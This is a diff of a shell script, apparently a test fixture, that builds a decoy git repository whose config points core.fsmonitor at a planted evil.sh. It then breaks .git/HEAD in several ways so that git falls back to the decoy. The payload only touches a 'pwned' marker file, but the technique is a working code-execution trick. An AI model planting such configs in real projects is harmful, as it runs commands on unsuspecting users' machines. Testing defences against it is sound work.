@@ -1,11 +1,14 @@
 # Makes .git something that git does not take for a repository, in the way that $1 says, and the
-# folder around it one: git then looks there, and finds settings of ours.
+# folder around it one: git then looks there, and finds settings of ours. $2 is that folder.
+cd "${2:-.}" || exit 1
 printf '#!/bin/sh\ntouch "$HOME/pwned"\n' >evil.sh && chmod 755 evil.sh
 mkdir -p objects refs/heads
 echo 'ref: refs/heads/main' >HEAD
 printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = %s\n\tfsmonitor = %s/evil.sh\n' "$PWD" "$PWD" >config
 case $1 in
 removed) rm -f .git/HEAD ;;
+left) ;;
+module) rm -f .git/modules/sub/HEAD ;;
 moved) mv .git/HEAD .git/HEAD.aside ;;
 nonsense) echo nonsense >.git/HEAD ;;
 emptied) : >.git/HEAD ;;
